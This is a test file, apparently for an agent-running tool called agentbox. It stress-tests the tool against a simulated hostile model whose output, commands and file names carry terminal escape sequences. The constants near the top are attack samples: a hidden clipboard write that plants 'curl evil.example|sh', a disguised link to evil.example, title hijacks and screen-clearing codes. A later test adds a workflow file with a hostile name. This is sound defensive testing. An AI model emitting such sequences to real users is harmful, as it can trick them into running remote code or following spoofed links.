import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bash, type RequestView, text, tool } from '../fixtures/model-server/index.js';
import { GIT_ENV } from '../helpers/git-repo.js';
import { expectNoProcessesLeft } from '../helpers/processes.js';
import { type Project, project } from '../helpers/project.js';
import { startPty, waitFor } from '../helpers/pty.js';
import { origin } from '../helpers/remote.js';

/**
 * Issue 27 item 6, as a hostile model: what the agent writes reaches the person's terminal only as
 * text. Every route is read through a real pty: the bytes the terminal got hold no clipboard write
 * (OSC 52), no disguised link (OSC 8), no title change, no cursor movement or screen clear, no
 * 8-bit CSI — while agentbox's own colours still do.
 */
const ESC = '\x1b';
const BEL = '\x07';
const CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=${BEL}`;
const LINK = `${ESC}]8;;https://evil.example/${ESC}\\innocent-docs${ESC}]8;;${ESC}\\`;
const TITLE = `${ESC}]0;PWNED-TITLE${BEL}`;
const CURSOR = `${ESC}[5A${ESC}[2J${ESC}[1;1H`;
const C1 = '\u009b3;3H\u009d2;C1-TITLE\u009c';
const HOSTILE = `${CLIPBOARD}${LINK}${TITLE}${CURSOR}${C1}`;

/** What must never reach the terminal: every sequence above, by its introducer or its effect. */
function expectInert(all: string, what: string): void {
  // agentbox's own bell when a run ends (runs.notify_bell) is the one BEL the terminal may get.
  const out = all.endsWith(BEL) ? all.slice(0, -1) : all;
  expect.soft(out, what).not.toContain(`${ESC}]`); // OSC 52, OSC 8, title: agentbox writes none
  expect.soft(out, what).not.toMatch(/[\u0080-\u009f]/); // 8-bit CSI, OSC, ST
  expect.soft(out, what).not.toContain(`${ESC}[5A`);
  expect.soft(out, what).not.toContain(`${ESC}[2J`);
  expect.soft(out, what).not.toContain(`${ESC}[1;1H`);
  const bel = out.indexOf(BEL);
  expect.soft(bel, `${what}: ${JSON.stringify(out.slice(Math.max(0, bel - 80), bel + 20))}`).toBe(-1);
}

/** agentbox's own colours (SGR) are still there. */
const coloured = (out: string) => /\x1b\[(?:1|2|3[1-6]|39|22|0)m/.test(out);

describe('text an agent wrote, on the terminal', () => {
  let p: Project;
  const pty = async (args: string[], answer?: string) => {
    const s = startPty(args, { cwd: p.repo.dir, env: p.env, cols: 160 });
    if (answer !== undefined) {
      await waitFor(() => s.output().includes('[y/N'), `the prompt of ${args.join(' ')}`, {
        context: () => s.output(),
      });
      s.write(`${answer}\r`);
    }
    const code = await s.exited;
    return { code, out: s.output() };
  };
  beforeAll(async () => {
    p = await project({ files: { 'src/app.ts': 'export const x = 1;\n' } });
  });
  afterAll(async () => p?.cleanup());

  it("a scout's printed answer: visible text stays, every escape sequence is gone", async () => {
    const task = 'TASK-HOSTILE-SCOUT what is here?';
    p.server.setRules([{ when: { anyText: task }, reply: text(`ANSWER-START ${HOSTILE} ANSWER-END`) }]);
    const { code, out } = await pty(['scout', task]);
    expect(code, out).toBe(0);
    expect(out).toContain('ANSWER-START');
    expect(out).toContain('innocent-docs');
    expect(out).toContain('ANSWER-END');
    expectInert(out, 'scout answer');
    expect(coloured(out), 'agentbox colours its own lines').toBe(true);
  }, 90_000);

  it('a fix run: the live line (Bash command text), show, watch, status and merge’s summary of a hostile file name', async () => {
    const task = `TASK-HOSTILE-FIX ${TITLE}set x`;
    // A CI workflow is a sensitive change: merge lists it by its (hostile) name before it asks.
    const evilName = `.github/workflows/evil${TITLE}${ESC}[2J.yml`;
    p.server.setRules([
      {
        when: { anyText: 'TASK-HOSTILE-FIX', turn: 0 },
        // The file's content carries the sequences too: `agentbox diff` shows it (issue 37 item 5).
        reply: (r: RequestView) =>
          tool('Write', {
            file_path: path.join(r.workingDirectory!, evilName),
            content: `echo hi\n# CONTENT-START ${CLIPBOARD}${TITLE}${CURSOR}${C1} CONTENT-END\n`,
          }),
      },
      {
        when: { anyText: 'TASK-HOSTILE-FIX', turn: 1 },
        // The command text carries the sequences. Claude Code refuses to run it ("control
        // characters"), after the stream showed it: the live line, the summary's last failed call
        // and watch all print it.
        reply: bash(`sleep 2; true '${CLIPBOARD}${CURSOR}${C1}'`),
      },
      { when: { anyText: 'TASK-HOSTILE-FIX' }, reply: text(`Done. REPORT-START ${HOSTILE} REPORT-END`) },
    ]);
    const fix = await pty(['fix', task]);
    expect(fix.code, fix.out).toBe(0);
    expect(fix.out).toMatch(/last: Bash sleep 2; true '/);
    expectInert(fix.out, 'fix run and its live line');
    expect(coloured(fix.out)).toBe(true);
    const name = p.newest();
    expect(p.state(name).status).toBe('REVIEW');
    const id = name.slice(-6);

    const show = await pty(['show', id]);
    expect(show.code, show.out).toBe(0);
    expect(show.out).toContain('TASK-HOSTILE-FIX');
    expect(show.out).toContain('REPORT-START');
    expectInert(show.out, 'show');
    expect(coloured(show.out)).toBe(true);

    const watch = await pty(['watch', id]);
    expect(watch.out).toMatch(/Bash sleep 2; true '/);
    expectInert(watch.out, 'watch');

    const status = await pty(['status']);
    expect(status.out).toContain('TASK-HOSTILE-FIX');
    expectInert(status.out, 'status');

    // The result commit's message (the task, the answer) as `git log` prints it: byte for byte.
    const message = p.repo.git('log', '-1', '--format=%B', `agentbox/${name}`);
    expect(message).toContain('REPORT-START');
    expectInert(message, 'git log of the result commit');

    // A real terminal: `diff` on it, with --no-pager or a pager that passes bytes through (issue 37
    // item 5): the file's sequences are text, git's colours stay.
    for (const [what, args, pager] of [
      ['diff --no-pager', ['diff', id, '--no-pager'], {}],
      ['diff, PAGER=cat', ['diff', id], { PAGER: 'cat' }],
      ['diff, GIT_PAGER="less -R"', ['diff', id], { GIT_PAGER: 'less -R', LESS: 'FRX' }],
    ] as const) {
      const s = startPty([...args], { cwd: p.repo.dir, env: { ...p.env, ...pager }, cols: 160 });
      const code = await s.exited;
      expect(code, s.output()).toBe(0);
      expect(s.output(), what).toContain('CONTENT-START');
      expect(s.output(), what).toContain('\\x1b]52;c;');
      expectInert(s.output(), what);
      expect(coloured(s.output()), `${what}: git's colours`).toBe(true);
    }

    const merge = await pty(['merge', id], 'n');
    expect(merge.out).toMatch(/sensitive changes/);
    // The name as it is, escaped (issue 37 item 7): not stripped of its sequences.
    expect(merge.out).toContain(
      'create mode 100644 ".github/workflows/evil\\x1b]0;PWNED-TITLE\\x07\\x1b[2J.yml"',
    );
    expect(merge.out).toContain('Nothing changed.');
    expectInert(merge.out, 'merge summary');
    expect(p.state(name).status).toBe('REVIEW');

    // An error that quotes the name: the same file, made here meanwhile, is a conflict.
    fs.mkdirSync(path.join(p.repo.dir, '.github/workflows'), { recursive: true });
    fs.writeFileSync(path.join(p.repo.dir, evilName), 'mine\n');
    const conflict = await pty(['merge', id, '--yes', '--allow-sensitive']);
    expect(conflict.code).not.toBe(0);
    expect(conflict.out).toContain('do not apply');
    expectInert(conflict.out, 'merge conflict error');
    fs.rmSync(path.join(p.repo.dir, '.github'), { recursive: true });
    await expectNoProcessesLeft(p.tag, 10_000);
  }, 180_000);

  it("a fetched run's task and report: a stranger's publication is shown as text", async () => {
    // The runner is this test's project, publishing to a bare origin; the laptop clones and fetches.
    const world = origin();
    try {
      p.repo.git('remote', 'add', 'origin', world.dir);
      p.repo.git('push', '--quiet', '--force', 'origin', 'HEAD:main');
      const task = `TASK-HOSTILE-REMOTE ${TITLE}${CURSOR}what is here?`;
      p.server.setRules([
        { when: { anyText: 'TASK-HOSTILE-REMOTE' }, reply: text(`REMOTE-START ${HOSTILE}`) },
      ]);
      const pushed = await p.agentbox(['scout', task, '--push'], { env: GIT_ENV });
      expect(pushed.code, pushed.stderr).toBe(0);
      const id = p.newest().slice(-6);
      const laptop = world.clone('laptop');
      const env = { ...p.env, ...GIT_ENV };
      const on = async (args: string[]) => {
        const s = startPty(args, { cwd: laptop.dir, env, cols: 160 });
        const code = await s.exited;
        return { code, out: s.output() };
      };
      expect((await on(['init'])).code).toBe(0);
      const fetched = await on(['fetch']);
      expect(fetched.code, fetched.out).toBe(0);
      expectInert(fetched.out, 'fetch');
      const show = await on(['show', id]);
      expect(show.code, show.out).toBe(0);
      expect(show.out).toContain('REMOTE-START');
      expect(show.out).toContain('TASK-HOSTILE-REMOTE');
      expectInert(show.out, 'show of a fetched run');
      const status = await on(['status']);
      expect(status.out).toContain('TASK-HOSTILE-REMOTE');
      expectInert(status.out, 'status of a fetched run');
    } finally {
      world.cleanup();
    }
  }, 120_000);
});
